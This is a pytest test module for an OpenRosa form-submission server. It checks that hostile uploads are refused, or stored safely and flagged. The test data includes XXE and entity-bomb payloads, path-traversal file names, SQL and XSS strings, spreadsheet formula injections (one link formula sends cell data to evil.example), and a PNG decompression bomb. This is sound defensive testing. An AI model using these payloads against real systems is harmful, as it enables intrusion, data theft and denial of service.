"""The hostile-input corpus (issue #10): what a broken phone, a bad network or an attacker can send to
``POST /submission``, and what the server does with each.

- Refused: a clear OpenRosa 4xx with a zh/en message, and nothing written — no row, no blob, no temp file.
- Accepted, because refusing would strand a real visit on the phone, but made safe and flagged for review.
- Injection strings in free text: stored literally, escaped on every page, exact in API JSON, neutralised in
  CSV and XLSX exports.

After every case the server still takes a normal visit (with a photo) and answers /healthz. One app, station
network and pair of phones serve the whole module (per database), so the corpus stays fast.
"""
from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Callable
from uuid import uuid4
from xml.etree import ElementTree as ET

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import func, select

from server import create_app
from server.domain.cells import neutralise
from server.domain.flags import LONG_TEXT_CHARS
from server.extensions import db
from server.models import Blob, Case, CaseEvent, Submission, SubmissionAttachment, SubmissionVersion
from tests.conftest import RESOURCES, RequestIsolatingClient, _test_config
from tests.integration.test_openrosa_robustness import BILLION_LAUGHS, EXTERNAL_ENTITY
from tests.support.collect import CollectClient, Part, multipart_body, submission_parts
from tests.support.database import empty_all_tables
from tests.support.visit_form import visit_xml

IID = "uuid:hostile-0000-4000-8000-000000000001"
OWN = "uuid:own-visit"            # a visit of this station (worker1), on the visit form
OWN_OTHER_FORM = "uuid:own-other-form"  # a submission of this station on the form 'other'
FOREIGN = "uuid:foreign-visit"    # a visit of the other station (worker_b)
FOREIGN_CASE = "33333333-3333-4333-8333-333333333333"
SUPERVISOR = ("wuhua", "Wuhua-pass-1")
RESPONSE_NS = "{http://openrosa.org/http/response}"
TABLES = (Submission, SubmissionVersion, SubmissionAttachment, Blob, Case, CaseEvent)


def jpeg(width: int = 64, height: int = 48, colour=(120, 150, 110)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="JPEG", quality=85)
    return out.getvalue()


def png(width: int = 32, height: int = 32) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 10, 10)).save(out, format="PNG")
    return out.getvalue()


@lru_cache(maxsize=None)
def noisy_jpeg() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((256, 256), 80).convert("RGB").save(out, format="JPEG", quality=90)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


@lru_cache(maxsize=None)
def png_bomb(side: int) -> bytes:
    """A real decompression bomb: a 1-bit side × side PNG of zeros, a few dozen KB that decode to side² pixels."""
    row = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


PHOTO = jpeg()


# --- one station network for the module ------------------------------------------------------

@dataclass
class Field:
    app: object
    client: RequestIsolatingClient
    phone: CollectClient
    phone_b: CollectClient
    media_root: Path


@pytest.fixture(scope="module")
def field(database_url, tmp_path_factory):
    from server.adapters.tabular import read_table
    from server.domain.places import AREA_COLUMNS
    from server.domain.stations import StationMode
    from server.services import accounts, places
    from server.services.accounts import active_collect_token
    from server.services.forms import publish_form
    from tests.integration.test_cases_api import add_case
    from tests.support.visit_form import visit_xlsform
    from tests.support.xlsforms import simple_form
    from tests.support.web import sign_in

    media_root = tmp_path_factory.mktemp("hostile") / "media"
    app = create_app(_test_config(database_url, media_root))
    context = app.app_context()
    context.push()
    try:
        places.import_areas(read_table(RESOURCES / "areas_small.csv", AREA_COLUMNS).rows)
        places.create_station("530102001", StationMode.PURCHASED)
        places.create_station("530103001", StationMode.GOVERNMENT)
        publish_form(visit_xlsform(), "visit.xlsx")
        publish_form(simple_form(form_id="other"), "other.xlsx")
        worker = accounts.create_user("worker1", "worker", "530102001", "Huashan-2026")
        worker_b = accounts.create_user("worker_b", "worker", "530103001", "Secret-pass-1")
        accounts.create_user(*SUPERVISOR[:1], "county", "530102", SUPERVISOR[1])
        db.session.commit()
        add_case(FOREIGN_CASE, "530103001", "530103001001", label="外站对象")
        app.test_client_class = RequestIsolatingClient
        client = app.test_client()
        phone = CollectClient(client, f"/key/{active_collect_token(worker).token}")
        phone_b = CollectClient(client, f"/key/{active_collect_token(worker_b).token}")
        assert phone.submit(visit_xml(OWN, photo=None), []).status_code == 201
        other = (f'<data id="other" version="2026010101"><person>x</person><case/>'
                 f"<meta><instanceID>{OWN_OTHER_FORM}</instanceID></meta></data>").encode()
        assert phone.submit(other, []).status_code == 201
        assert phone_b.submit(visit_xml(FOREIGN, photo=None), []).status_code == 201
        assert sign_in(client, *SUPERVISOR).status_code == 302
        yield Field(app, client, phone, phone_b, media_root)
    finally:
        db.session.remove()
        empty_all_tables(db.engine)
        db.engine.dispose()
        context.pop()


def snapshot(field: Field) -> tuple:
    """Every row count that a submission can touch, and every file under the media folder (blobs,
    thumbnails and temporary uploads alike)."""
    db.session.expire_all()
    counts = tuple(db.session.scalar(select(func.count()).select_from(model)) for model in TABLES)
    files = sorted(str(p.relative_to(field.media_root)) for p in field.media_root.rglob("*") if p.is_file())
    return counts, files


def assert_still_healthy(field: Field) -> None:
    response = field.phone.submit(visit_xml(f"uuid:{uuid4()}", photo="health.jpg"), [("health.jpg", PHOTO)])
    assert response.status_code == 201, response.data
    assert field.client.get("/healthz").status_code == 200


def openrosa_error(response) -> str:
    assert b"OpenRosaResponse" in response.data, response.data[:300]
    message = ET.fromstring(response.data).find(f"{RESPONSE_NS}message")
    assert message is not None and message.get("nature") == "error"
    return message.text or ""


# --- refused: a clear 4xx, nothing written ----------------------------------------------------

def mp(xml: bytes, files: list[tuple[str, bytes]] = (), extra: list[Part] = ()) -> tuple[bytes, str]:
    return multipart_body(submission_parts(xml, list(files)) + list(extra))


def xml_part(xml: bytes, name: str = "xml_submission_file") -> Part:
    return Part(name, xml, "text/xml", "visit.xml")


def replaced(old: str, new: str, **kwargs) -> bytes:
    xml = visit_xml(IID, **kwargs)
    assert old.encode() in xml
    return xml.replace(old.encode(), new.encode())


def with_doctype(doctype: str, body: str = "<person>x</person>") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<data id="visit" version="2026010101">{body}'
            f"<meta><instanceID>{IID}</instanceID></meta></data>").encode()


def truncated(cut: Callable[[bytes], int], files=(("a.jpg", PHOTO),)) -> tuple[bytes, str]:
    body, content_type = mp(visit_xml(IID, photo="a.jpg"), list(files))
    return body[:cut(body)], content_type


def named(name: str) -> tuple[bytes, str]:
    """The XML refers to the photo under ``name`` and the part carries that name, as Collect would send it."""
    return mp(visit_xml(IID, photo=name), [(name, PHOTO)])


def extra_part(name: str) -> tuple[bytes, str]:
    """A safe photo the XML refers to, and another part under ``name``."""
    return mp(visit_xml(IID, photo="a.jpg"), [("a.jpg", PHOTO), (name, PHOTO)])


def entity_update(case_id: str) -> bytes:
    xml = visit_xml(IID, photo=None)
    block = (f'<entity dataset="cases" id="uuid:{case_id}" update="1" baseVersion="1">'
             f"<label>x</label></entity>")
    return xml.replace(b"<meta>", f"<meta>{block}".encode())


def many_parts(count: int) -> tuple[bytes, str]:
    return mp(visit_xml(IID, photo=None), [(f"p{i}.jpg", b"x") for i in range(count)])


def big_field(size: int) -> tuple[bytes, str]:
    return mp(visit_xml(IID, photo=None), extra=[Part("note", b"x" * size)])


def big_xml() -> tuple[bytes, str]:
    xml = visit_xml(IID, photo=None)
    return mp(xml.replace(b"<meta>", b"<!--" + b"x" * 10_000_000 + b"--><meta>"))


def deep(levels: int) -> bytes:
    return replaced("<person>王芳</person>", "<g>" * levels + "</g>" * levels)


MB = "multipart/form-data; boundary=b0undary"
DOCTYPE_ERROR = "DTD"
NOT_WELL_FORMED = "well-formed"
MISSING_XML = "xml_submission_file"
BAD_NAME = "附件名"

REFUSED: dict[str, tuple[Callable[[], tuple[bytes, str | None]], int, str]] = {
    # XML bombs and external entities: refused before any expansion or fetch
    "billion_laughs": (lambda: mp(BILLION_LAUGHS), 400, DOCTYPE_ERROR),
    "quadratic_blowup": (lambda: mp(with_doctype(f'<!DOCTYPE data [<!ENTITY a "{"a" * 50_000}">]>',
                                                 "<person>" + "&a;" * 20_000 + "</person>")), 400, DOCTYPE_ERROR),
    "external_entity_file": (lambda: mp(EXTERNAL_ENTITY), 400, DOCTYPE_ERROR),
    "external_entity_http": (lambda: mp(with_doctype('<!DOCTYPE data [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
                                                     "<person>&x;</person>")), 400, DOCTYPE_ERROR),
    "parameter_entity": (lambda: mp(with_doctype('<!DOCTYPE data [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>')),
                         400, DOCTYPE_ERROR),
    "external_dtd": (lambda: mp(with_doctype('<!DOCTYPE data SYSTEM "http://127.0.0.1:9/x.dtd">')), 400, DOCTYPE_ERROR),
    "internal_dtd_without_entities": (lambda: mp(with_doctype("<!DOCTYPE data [<!ELEMENT data ANY>]>")), 400,
                                      DOCTYPE_ERROR),
    "doctype_only": (lambda: mp(with_doctype("<!DOCTYPE data>")), 400, DOCTYPE_ERROR),
    "xinclude_with_doctype": (lambda: mp(with_doctype('<!DOCTYPE data [<!ENTITY x SYSTEM "/etc/passwd">]>',
                                                      '<person xmlns:xi="http://www.w3.org/2001/XInclude">'
                                                      '<xi:include href="/etc/passwd" parse="text"/>&x;</person>')),
                              400, DOCTYPE_ERROR),
    # malformed or truncated XML
    "empty_xml": (lambda: mp(b""), 400, NOT_WELL_FORMED),
    "whitespace_xml": (lambda: mp(b"  \r\n\t "), 400, NOT_WELL_FORMED),
    "not_xml": (lambda: mp(b"hello"), 400, NOT_WELL_FORMED),
    "json_not_xml": (lambda: mp(b'{"id": "visit", "version": "2026010101"}'), 400, NOT_WELL_FORMED),
    "html_not_xml": (lambda: mp(b"<html><body><script>alert(1)</script><br></body></html>"), 400, NOT_WELL_FORMED),
    "xml_truncated_half": (lambda: mp(visit_xml(IID)[: len(visit_xml(IID)) // 2]), 400, NOT_WELL_FORMED),
    "xml_truncated_after_root": (lambda: mp(visit_xml(IID).split(b">", 2)[0] + b">" + visit_xml(IID).split(b">", 2)[1]
                                            + b">"), 400, NOT_WELL_FORMED),
    "xml_truncated_mid_tag": (lambda: mp(visit_xml(IID)[: visit_xml(IID).index(b"<meta") + 3]), 400, NOT_WELL_FORMED),
    "xml_truncated_last_byte": (lambda: mp(visit_xml(IID)[:-1]), 400, NOT_WELL_FORMED),
    "mismatched_tags": (lambda: mp(replaced("</person>", "</persn>")), 400, NOT_WELL_FORMED),
    "two_roots": (lambda: mp(visit_xml(IID) + b"<data/>"), 400, NOT_WELL_FORMED),
    "invalid_utf8": (lambda: mp(visit_xml(IID).replace("王芳".encode(), b"\xff\xfe\xfa")), 400, NOT_WELL_FORMED),
    "nul_byte": (lambda: mp(visit_xml(IID).replace("王芳".encode(), b"a\x00b")), 400, NOT_WELL_FORMED),
    "nul_character_reference": (lambda: mp(replaced("王芳", "a&#0;b")), 400, NOT_WELL_FORMED),
    "control_character_reference": (lambda: mp(replaced("王芳", "a&#27;b")), 400, NOT_WELL_FORMED),
    "bare_ampersand": (lambda: mp(replaced("王芳", "Tom & Jerry")), 400, NOT_WELL_FORMED),
    "bare_less_than": (lambda: mp(replaced("王芳", "a < b")), 400, NOT_WELL_FORMED),
    "unknown_encoding": (lambda: mp(b'<?xml version="1.0" encoding="x-no-such"?>' + visit_xml(IID).split(b"?>", 1)[1]),
                         400, NOT_WELL_FORMED),
    "deep_nesting": (lambda: mp(deep(5_000)), 400, "nests deeper"),
    "very_deep_nesting": (lambda: mp(deep(200_000)), 400, "nests deeper"),
    "no_form_id": (lambda: mp(visit_xml(IID).replace(b' id="visit"', b"")), 400, "form ID"),
    "blank_form_id": (lambda: mp(visit_xml(IID, form_id="   ")), 400, "form ID"),
    "instance_id_too_long": (lambda: mp(visit_xml("uuid:" + "9" * 300)), 400, "instanceID"),
    "xml_over_10_mb": (big_xml, 400, "bytes"),
    # malformed, truncated and oversize multipart
    "not_multipart": (lambda: (visit_xml(IID), "text/xml"), 400, MISSING_XML),
    "form_urlencoded": (lambda: (b"xml_submission_file=%3Cdata%2F%3E", "application/x-www-form-urlencoded"), 400,
                        MISSING_XML),
    "empty_body": (lambda: (b"", None), 400, MISSING_XML),
    "multipart_without_boundary": (lambda: (mp(visit_xml(IID))[0], "multipart/form-data"), 400, MISSING_XML),
    "multipart_wrong_boundary": (lambda: (mp(visit_xml(IID))[0], MB), 400, MISSING_XML),
    "multipart_garbage": (lambda: (bytes(range(256)) * 64, MB), 400, MISSING_XML),
    "multipart_cut_in_xml_part": (lambda: truncated(lambda b: b.index(b"<meta>")), 400, MISSING_XML),
    "multipart_cut_in_part_headers": (lambda: truncated(lambda b: b.index(b"form-data") + 5), 400, MISSING_XML),
    "multipart_cut_in_photo": (lambda: truncated(lambda b: len(b) - len(PHOTO) // 2), 400, MISSING_XML),
    "multipart_without_closing_boundary": (lambda: truncated(lambda b: b.rindex(b"--")), 400, MISSING_XML),
    "xml_part_missing": (lambda: multipart_body([Part("a.jpg", PHOTO, "image/jpeg", "a.jpg")]), 400, MISSING_XML),
    "xml_part_under_other_name": (lambda: multipart_body([xml_part(visit_xml(IID), "xml")]), 400, MISSING_XML),
    "xml_as_plain_field": (lambda: multipart_body([Part("xml_submission_file", visit_xml(IID))]), 400, MISSING_XML),
    "xml_part_twice_same": (lambda: multipart_body([xml_part(visit_xml(IID)), xml_part(visit_xml(IID))]), 400,
                            "more than once"),
    "xml_part_twice_different": (lambda: multipart_body([xml_part(visit_xml(IID)),
                                                         xml_part(visit_xml(IID, person="李四"))]), 400,
                                 "more than once"),
    "too_many_parts": (lambda: many_parts(1_100), 413, ""),
    "oversize_form_field": (lambda: big_field(1_000_000), 413, ""),
    # attachment names a server may not keep (in the XML and in the part names)
    "name_parent_dir": (lambda: named("../evil.jpg"), 400, BAD_NAME),
    "name_parent_dirs": (lambda: named("../../../../etc/passwd"), 400, BAD_NAME),
    "name_absolute": (lambda: named("/etc/passwd"), 400, BAD_NAME),
    "name_absolute_jpg": (lambda: named("/tmp/a.jpg"), 400, BAD_NAME),
    "name_windows_absolute": (lambda: named("C:\\Windows\\win.ini"), 400, BAD_NAME),
    "name_backslash_parent": (lambda: named("..\\..\\evil.jpg"), 400, BAD_NAME),
    "name_subfolder": (lambda: named("photos/a.jpg"), 400, BAD_NAME),
    "name_dot": (lambda: named("."), 400, BAD_NAME),
    "name_dotdot": (lambda: named(".."), 400, BAD_NAME),
    "name_thousands_of_chars": (lambda: named("a" * 5_000 + ".jpg"), 400, BAD_NAME),
    "name_256_chinese_chars": (lambda: named("照" * 252 + ".jpg"), 400, BAD_NAME),
    "name_newline": (lambda: named("a\nb.jpg"), 400, BAD_NAME),
    "name_tab": (lambda: named("a\tb.jpg"), 400, BAD_NAME),
    "name_bidi_override": (lambda: named("photo\u202egpj.exe"), 400, BAD_NAME),
    "part_name_nul": (lambda: extra_part("a.jpg\x00.php"), 400, BAD_NAME),
    "part_name_parent_dir": (lambda: extra_part("../../evil.sh"), 400, BAD_NAME),
    "part_name_absolute": (lambda: extra_part("/etc/cron.d/evil"), 400, BAD_NAME),
    "part_name_thousands_of_chars": (lambda: extra_part("b" * 4_000), 400, BAD_NAME),
    "part_name_escape": (lambda: extra_part("\x1b[2J.jpg"), 400, BAD_NAME),
    # unknown form id or version
    "unknown_form": (lambda: mp(visit_xml(IID, form_id="nosuchform")), 404, "nosuchform"),
    "unknown_version": (lambda: mp(visit_xml(IID, version="1999")), 404, "1999"),
    "empty_version": (lambda: mp(visit_xml(IID).replace(b'version="2026010101"', b"")), 404, "version"),
    "sql_in_form_id": (lambda: mp(visit_xml(IID, form_id="visit' OR '1'='1")), 404, "OR"),
    "sql_in_version": (lambda: mp(visit_xml(IID, version="1 OR 1=1; --")), 404, "OR 1=1"),
    "path_in_form_id": (lambda: mp(visit_xml(IID, form_id="../visit")), 404, "visit"),
    "huge_form_id": (lambda: mp(visit_xml(IID, form_id="v" * 10_000)), 404, "vvv"),
    "chinese_form_id": (lambda: mp(visit_xml(IID, form_id="入户访视")), 404, "入户访视"),
    # an instanceID another form, another station or another XML already holds
    "instance_id_of_other_form": (lambda: mp(visit_xml(OWN_OTHER_FORM)), 409, "instanceID"),
    "other_form_reusing_visit_id": (lambda: mp((f'<data id="other" version="2026010101"><person>x</person><case/>'
                                                f"<meta><instanceID>{OWN}</instanceID></meta></data>").encode()),
                                    409, "instanceID"),
    "instance_id_of_other_station": (lambda: mp(visit_xml(FOREIGN)), 409, "instanceID"),
    "edit_of_other_station": (lambda: mp(visit_xml(IID, deprecated_id=FOREIGN)), 409, "instanceID"),
    "edit_of_other_form": (lambda: mp(visit_xml(IID, deprecated_id=OWN_OTHER_FORM)), 409, "instanceID"),
    "same_id_different_xml": (lambda: mp(visit_xml(OWN, person="改过的", photo=None)), 409, "instanceID"),
    "edit_of_unknown": (lambda: mp(visit_xml(IID, deprecated_id="uuid:nobody")), 404, "uuid:nobody"),
    # invalid geopoints and other typed values
    "latitude_over_90": (lambda: mp(visit_xml(IID, location="90.5 102.7 0 5")), 400, "location"),
    "latitude_under_minus_90": (lambda: mp(visit_xml(IID, location="-91 102.7 0 5")), 400, "location"),
    "longitude_over_180": (lambda: mp(visit_xml(IID, location="25 180.0001 0 5")), 400, "location"),
    "longitude_under_minus_180": (lambda: mp(visit_xml(IID, location="25 -200 0 5")), 400, "location"),
    "geopoint_text": (lambda: mp(visit_xml(IID, location="我家门口")), 400, "location"),
    "geopoint_one_number": (lambda: mp(visit_xml(IID, location="25.04")), 400, "location"),
    "geopoint_five_numbers": (lambda: mp(visit_xml(IID, location="25 102 1 2 3")), 400, "location"),
    "geopoint_nan": (lambda: mp(visit_xml(IID, location="NaN NaN")), 400, "location"),
    "geopoint_infinity": (lambda: mp(visit_xml(IID, location="inf 0")), 400, "location"),
    "geopoint_overflow": (lambda: mp(visit_xml(IID, location="1e309 0")), 400, "location"),
    "geopoint_negative_accuracy": (lambda: mp(visit_xml(IID, location="25 102 0 -5")), 400, "location"),
    "geopoint_decimal_commas": (lambda: mp(visit_xml(IID, location="25,04 102,71")), 400, "location"),
    "geopoint_sql": (lambda: mp(visit_xml(IID, location="25 102'); DROP TABLE submission; --")), 400, "location"),
    "integer_text": (lambda: mp(visit_xml(IID, age="sixty")), 400, "age"),
    "integer_exponent": (lambda: mp(visit_xml(IID, age="1e5")), 400, "age"),
    "integer_5000_digits": (lambda: mp(visit_xml(IID, age="9" * 5_000)), 400, "age"),
    "decimal_overflow": (lambda: mp(replaced("<income>1250.5</income>", "<income>1e400</income>")), 400, "income"),
    "impossible_date": (lambda: mp(replaced("2026-11-20", "2026-13-45")), 400, "visit_date"),
    "repeat_integer_text": (lambda: mp(visit_xml(IID, members=(("李强", "forty"),))), 400, "member_age"),
    # forged references outside the worker's station
    "case_of_other_station": (lambda: mp(visit_xml(IID, case=FOREIGN_CASE)), 403, "权限"),
    "case_of_other_station_uuid_prefix": (lambda: mp(visit_xml(IID, case=f"uuid:{FOREIGN_CASE}")), 403, "权限"),
    "entity_update_of_other_station_case": (lambda: mp(entity_update(FOREIGN_CASE)), 403, "权限"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_with_a_clear_4xx_and_nothing_written(field, case):
    build, status, text = REFUSED[case]
    body, content_type = build()
    before = snapshot(field)
    kwargs = {"data": body, **({"content_type": content_type} if content_type else {})}
    response = field.phone.request("POST", "/submission", **kwargs)
    assert response.status_code == status, response.data[:500]
    message = openrosa_error(response)
    assert text in message, message
    assert snapshot(field) == before
    assert_still_healthy(field)


def test_body_over_the_limit_is_413_and_nothing_written(field):
    field.app.config["MAX_CONTENT_LENGTH"] = 1_000_000
    try:
        body, content_type = mp(visit_xml(IID, photo="a.jpg"), [("a.jpg", b"\xff\xd8\xff" + b"x" * 1_500_000)])
        before = snapshot(field)
        response = field.phone.request("POST", "/submission", data=body, content_type=content_type)
        assert response.status_code == 413
        openrosa_error(response)
        assert snapshot(field) == before
    finally:
        field.app.config["MAX_CONTENT_LENGTH"] = 100_000_000
    assert_still_healthy(field)


def test_every_refusal_message_is_chinese_then_english(field):
    body, content_type = named("../evil.jpg")
    response = field.phone.request("POST", "/submission", data=body, content_type=content_type)
    message = openrosa_error(response)
    assert message.index("附件名") < message.index("attachment name")


# --- accepted (a real visit must not be stranded), made safe and flagged --------------------

HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
AUDIT_CSV = b"event,node,start,end\nform start,,1714558951234,\n"


def on_day(day: str) -> bytes:
    return replaced("<visit_date>2026-11-20</visit_date>", f"<visit_date>{day}</visit_date>", photo=None)


def with_audit(name: str) -> bytes:
    return visit_xml(IID, photo=None).replace(b"</instanceID>", f"</instanceID><audit>{name}</audit>".encode())


@dataclass(frozen=True)
class Accepted:
    xml: bytes
    files: tuple[tuple[str, bytes], ...] = ()
    flags: tuple[str, ...] = ()
    served: dict[str, tuple[str, bool]] | None = None  # name → (Content-Type, shown inline)
    thumbnail: dict[str, bool] | None = None            # name → a thumbnail is made


def photo_visit(name: str, content: bytes, flags: tuple[str, ...] = (), served: tuple[str, bool] | None = None,
                thumbnail: bool | None = None) -> Accepted:
    return Accepted(visit_xml(IID, photo=name), ((name, content),), flags,
                    {name: served} if served else None, {name: thumbnail} if thumbnail is not None else None)


ACCEPTED: dict[str, Callable[[], Accepted]] = {
    # a phone with a wrong clock
    "clock_reset_to_1970": lambda: Accepted(on_day("1970-01-01"), flags=("clock_skew",)),
    "clock_in_year_1": lambda: Accepted(on_day("0001-01-01"), flags=("clock_skew",)),
    "clock_two_years_behind": lambda: Accepted(on_day("2024-06-01"), flags=("clock_skew",)),
    "clock_far_future": lambda: Accepted(on_day("2099-12-31"), flags=("clock_skew",)),
    "clock_in_year_9999": lambda: Accepted(on_day("9999-12-31"), flags=("clock_skew",)),
    "clock_right": lambda: Accepted(on_day("2026-11-20")),
    # non-ASCII file names, kept exactly
    "chinese_file_name": lambda: photo_visit("入户照片_王芳家门口.jpg", PHOTO, served=("image/jpeg", True), thumbnail=True),
    "cyrillic_file_name": lambda: photo_visit("фото_01.jpg", PHOTO, served=("image/jpeg", True)),
    "arabic_file_name": lambda: photo_visit("صورة البيت.jpg", PHOTO, served=("image/jpeg", True)),
    "emoji_file_name": lambda: photo_visit("🏠📷.jpg", PHOTO, served=("image/jpeg", True)),
    "decomposed_accent_file_name": lambda: photo_visit("cafe\u0301.jpg", PHOTO, served=("image/jpeg", True)),
    "file_name_of_255_chars": lambda: photo_visit("照" * 251 + ".jpg", PHOTO, served=("image/jpeg", True)),
    # files whose bytes are not what their name says: kept, never served as what they are not
    "html_named_jpg": lambda: photo_visit("a.jpg", HTML_PAGE, ("type_mismatch",),
                                          ("application/octet-stream", False), thumbnail=False),
    "svg_script_named_jpg": lambda: photo_visit("a.jpg", SVG_SCRIPT, ("type_mismatch",),
                                                ("application/octet-stream", False), thumbnail=False),
    "pdf_named_jpg": lambda: photo_visit("a.jpg", b"%PDF-1.7\n" + b"x" * 500, ("type_mismatch",),
                                         ("application/octet-stream", False), thumbnail=False),
    "windows_program_named_jpg": lambda: photo_visit("a.jpg", b"MZ\x90\x00" + b"\x00" * 500, ("type_mismatch",),
                                                     ("application/octet-stream", False), thumbnail=False),
    "png_named_jpg": lambda: photo_visit("a.jpg", png(), ("type_mismatch",), ("application/octet-stream", False)),
    "jpeg_named_audit_csv": lambda: Accepted(with_audit("audit.csv"), (("audit.csv", PHOTO),), ("type_mismatch",),
                                             {"audit.csv": ("application/octet-stream", False)}),
    "real_audit_csv": lambda: Accepted(with_audit("audit.csv"), (("audit.csv", AUDIT_CSV),), (),
                                       {"audit.csv": ("application/octet-stream", False)}, {"audit.csv": False}),
    "real_png": lambda: photo_visit("a.png", png(), served=("image/png", True), thumbnail=True),
    # decompression bombs and broken images: stored, never decoded past the pixel limit
    "png_bomb_400_megapixels": lambda: photo_visit("bomb.png", png_bomb(20_000), ("image_too_large",),
                                                   ("image/png", True), thumbnail=False),
    "png_bomb_81_megapixels": lambda: photo_visit("bomb.png", png_bomb(9_000), ("image_too_large",),
                                                  thumbnail=False),
    "truncated_jpeg": lambda: photo_visit("a.jpg", noisy_jpeg()[: len(noisy_jpeg()) * 2 // 3],
                                          ("image_unreadable",), ("image/jpeg", True), thumbnail=False),
    "truncated_png": lambda: photo_visit("a.png", png(300, 300)[:200], ("image_unreadable",), thumbnail=False),
    "jpeg_signature_only": lambda: photo_visit("a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100, ("image_unreadable",),
                                               thumbnail=False),
    # very long free text: stored whole
    "long_text": lambda: Accepted(visit_xml(IID, person="长" * (LONG_TEXT_CHARS + 1), photo=None),
                                  flags=("long_text",)),
    "long_text_in_a_repeat": lambda: Accepted(visit_xml(IID, photo=None, members=(("名" * 200_000, "40"),)),
                                              flags=("long_text",)),
    "text_at_the_limit": lambda: Accepted(visit_xml(IID, person="长" * LONG_TEXT_CHARS, photo=None)),
    "several_flags_at_once": lambda: Accepted(
        replaced("<visit_date>2026-11-20</visit_date>", "<visit_date>1970-01-01</visit_date>",
                 person="长" * (LONG_TEXT_CHARS + 1), photo="a.jpg"),
        (("a.jpg", HTML_PAGE),), ("clock_skew", "long_text", "type_mismatch")),
}


@pytest.mark.parametrize("case", list(ACCEPTED))
def test_accepted_made_safe_and_flagged(field, case):
    expected = ACCEPTED[case]()
    instance_id = f"uuid:{uuid4()}"
    xml = expected.xml.replace(IID.encode(), instance_id.encode())
    response = field.phone.submit(xml, list(expected.files))
    assert response.status_code == 201, response.data
    db.session.expire_all()
    submission = db.session.scalars(select(Submission).where(Submission.instance_id == instance_id)).one()
    assert (submission.flags or []) == sorted(expected.flags)
    version = submission.versions[-1]
    assert version.xml == xml  # stored byte-exact, long text and all
    attachments = {a.name: a for a in version.attachments}
    for name, content in expected.files:
        assert name in attachments, attachments  # the name exactly as sent
        assert db.session.get(Blob, attachments[name].blob_sha256).size == len(content)
    for name, (content_type, inline) in (expected.served or {}).items():
        assert_served(field, instance_id, name, content_type, inline)
    for name, made in (expected.thumbnail or {}).items():
        url = f"/media/{instance_id}/{name}?size=240"
        with field.client.get(url) as thumbnail:
            assert thumbnail.status_code == (200 if made else 404), url
            if made:
                assert thumbnail.mimetype == "image/jpeg"
    api = field.client.get(f"/api/v1/submissions/{instance_id}", headers=api_headers(field)).json
    assert api["flags"] == sorted(expected.flags)
    assert_still_healthy(field)


def assert_served(field: Field, instance_id: str, name: str, content_type: str, inline: bool) -> None:
    from urllib.parse import quote

    for url in (f"/media/{instance_id}/{quote(name)}",
                f"/api/v1/submissions/{instance_id}/attachments/{quote(name, safe='')}"):
        with field.client.get(url, headers=api_headers(field) if "/api/" in url else {}) as response:
            assert response.status_code == 200, url
            assert response.headers["Content-Type"].split(";")[0] == content_type
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            disposition = response.headers["Content-Disposition"]
            assert disposition.startswith("inline" if inline else "attachment"), disposition


def api_headers(field: Field) -> dict[str, str]:
    token = getattr(field, "api_token", None)
    if token is None:
        reply = field.client.post("/api/v1/sessions", json={"username": SUPERVISOR[0], "password": SUPERVISOR[1]})
        token = reply.json["token"]
        field.api_token = token  # type: ignore[attr-defined]
    return {"Authorization": f"Bearer {token}"}


def test_flags_show_on_the_pages_and_filter_the_list_and_the_api(field):
    instance_id = f"uuid:{uuid4()}"
    xml = replaced("<visit_date>2026-11-20</visit_date>", "<visit_date>1970-01-01</visit_date>", photo=None)
    assert field.phone.submit(xml.replace(IID.encode(), instance_id.encode()), []).status_code == 201
    detail = field.client.get(f"/submissions/{instance_id}").get_data(as_text=True)
    assert 'data-flag="clock_skew"' in detail
    flagged = field.client.get("/submissions?flag=clock_skew").get_data(as_text=True)
    assert instance_id in flagged and OWN not in flagged and 'data-flag="clock_skew"' in flagged
    assert instance_id in field.client.get("/submissions?flag=any").get_data(as_text=True)
    assert instance_id not in field.client.get("/submissions?flag=long_text").get_data(as_text=True)
    listed = field.client.get("/api/v1/submissions?flag=clock_skew&limit=500", headers=api_headers(field)).json
    ids = {s["instance_id"] for s in listed["submissions"]}
    assert instance_id in ids and OWN not in ids
    assert all("clock_skew" in s["flags"] for s in listed["submissions"])
    refused = field.client.get("/api/v1/submissions?flag=nonsense", headers=api_headers(field))
    assert refused.status_code == 400


# --- injection strings: stored literally, escaped everywhere, inert in spreadsheets ----------

INJECTIONS = (
    "'; DROP TABLE submission; --",
    '" OR "1"="1',
    "1; SELECT pg_sleep(5); --",
    "Robert'); DELETE FROM blob WHERE ('1'='1",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea></td></tr></table><h1>伪造</h1>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% if 1 %}模板{% endif %}",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "%27%20OR%201%3D1",
)


@pytest.fixture(scope="module")
def injected(field) -> dict[str, str]:
    """One visit per string, which is the person's name, a household member's name and the instance name;
    and a supervisor's comment of that string on it. Maps instance id → string."""
    from tests.support.web import post_form

